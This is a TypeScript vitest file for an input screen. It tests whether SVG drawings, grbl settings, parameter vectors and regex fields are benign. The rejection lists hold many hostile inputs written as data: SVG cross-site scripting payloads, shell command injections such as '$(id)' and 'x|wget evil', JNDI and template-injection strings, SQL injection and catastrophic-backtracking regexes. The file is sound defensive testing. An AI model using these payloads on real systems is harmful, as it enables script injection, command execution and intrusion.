/**
 * The value shapes of blind benign set 19 (session 36, bb36, read): an SVG drawing of shapes alone (svg-drawing.ts), a grbl
 * setting and a vector of numbers with `${name}` references (machine-settings.ts), and a regular expression in a field
 * named for one (regex-value.ts, field-intent.ts).
 */
import { describe, expect, it } from 'vitest';
import { fieldIntentOfName } from '../../src/model/field-intent.js';
import { isGrblSetting, isParameterVector } from '../../src/model/machine-settings.js';
import { isPlainRegex } from '../../src/model/regex-value.js';
import { INJECTION_WORDS, mayCarryAttack } from '../../src/model/screen.js';
import { isSvgDrawing } from '../../src/model/svg-drawing.js';

const COSTUME = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect x="5" y="5" width="30" height="30" rx="6" fill="#8cf"/><circle cx="15" cy="18" r="3"/><circle cx="25" cy="18" r="3"/></svg>';

describe('isSvgDrawing', () => {
  for (const t of [
    COSTUME,
    '<svg viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="none" stroke="#333" stroke-width="2"/></svg>',
    '<svg width="120" height="40"><defs><linearGradient id="g1"><stop offset="0%" stop-color="#f80"/><stop offset="100%" stop-color="#fc0"/></linearGradient></defs><rect width="120" height="40" fill="url(#g1)"/><text x="10" y="25" font-size="14">Score 42</text></svg>',
    '<svg><g transform="rotate(45 20 20)"><ellipse cx="20" cy="20" rx="10" ry="4"/></g></svg>',
  ]) it(`takes ${t.slice(0, 60)}`, () => expect(isSvgDrawing(t)).toBe(true));
  for (const t of [
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script><rect width="1"/></svg>',
    '<svg><rect width="1" onclick="alert(1)"/></svg>',
    '<svg><a href="javascript:alert(1)"><rect width="9"/></a></svg>',
    '<svg><rect width="9"/><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><rect width="9"/><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><foreignObject><body onload="alert(1)"></body></foreignObject><rect width="1"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/><rect width="1"/></svg>',
    '<svg><rect width="1" fill="url(http://evil.example/x)"/></svg>',
    '<svg><rect width="1" style="background:url(javascript:alert(1))"/></svg>',
    '<svg xmlns="http://evil.example/ns"><rect width="1"/></svg>',
    '<svg><rect width="1"/></svg><script>alert(1)</script>',
    '<svg><text x="1">&lt;script&gt;</text></svg>',
    '<svg></svg>',
    '<svg><g></g></svg>',
  ]) it(`refuses ${t.slice(0, 60)}`, () => expect(isSvgDrawing(t)).toBe(false));
  it('keeps the screen from sending a costume to the model', () => {
    expect(mayCarryAttack(COSTUME)).toBe(false);
    expect(mayCarryAttack('<svg><rect width="1" onclick="alert(1)"/></svg>')).toBe(true);
  });
});

describe('isGrblSetting', () => {
  for (const t of ['$130=800', '$22=1', '$110=5000.000', '$100=-80.5']) it(`takes ${t}`, () => expect(isGrblSetting(t)).toBe(true));
  for (const t of ['$1=id', '$(id)', '$130=800;id', '$130=800 ', '$IFS=1', '${130}=1', '$1234=1']) it(`refuses ${t}`, () => expect(isGrblSetting(t)).toBe(false));
  it('keeps the screen from sending a setting to the model', () => {
    expect(mayCarryAttack('$130=800')).toBe(false);
    expect(mayCarryAttack('$130=800;id')).toBe(true);
  });
});

describe('isParameterVector', () => {
  for (const t of ['0 ${y} 0', '0 0 ${z}', '${wheel_x} 0.15 -0.02', '1.5e-3 ${r} ${r}']) it(`takes ${t}`, () => expect(isParameterVector(t)).toBe(true));
  for (const t of ['${y}', '${a} ${b}', '0 ${7*7} 0', '0 ${jndi:ldap://x} 0', '0 ${T(java.lang.Runtime)} 0', '0 ${IFS} 0', '1 ${secret_key} 0', '0 ${a.b} 0', '0 ${y} 0;id', '0 $(id) 0', '0 ${class} 0', '0 ${y} 0 0 0 0 0']) {
    it(`refuses ${t}`, () => expect(isParameterVector(t)).toBe(false));
  }
  it('keeps the screen from sending a vector to the model', () => {
    expect(mayCarryAttack('0 ${y} 0')).toBe(false);
    expect(mayCarryAttack('0 ${7*7} 0')).toBe(true);
  });
});

describe('isPlainRegex and the regex field', () => {
  it('reads regex, regexp and pattern fields as regular expressions', () => {
    for (const n of ['regex', 'tier_regex', 'filter[regexp]', 'pattern']) expect(fieldIntentOfName(n), n).toBe('regex');
    for (const n of ['patterns', 'regex_flags', 'q']) expect(fieldIntentOfName(n), n).not.toBe('regex');
  });
  for (const t of ['^(ha|he)(ll|l)o\\b', 'error|warn(ing)?', '^[A-Z]{2}\\d{4}$', '\\bcolou?r\\b', '^(?:[a-z0-9._-]+)@example\\.com$', 'New York|Boston']) {
    it(`takes ${t}`, () => expect(isPlainRegex(t, INJECTION_WORDS)).toBe(true));
  }
  for (const t of ["' or 1=1--", 'a|id', 'x|wget evil', '(a+)+$', '(x*)*', '<script>', '(select|union)', 'a;b', '$(id)', '${7*7}', '..\\/etc', '^(a|b', 'a)(b', 'x{1,2', '\\x3cscript', 'a\nb', "a' or 'b", 'a=1', 'a`id`']) {
    it(`refuses ${JSON.stringify(t)}`, () => expect(isPlainRegex(t, INJECTION_WORDS)).toBe(false));
  }
});
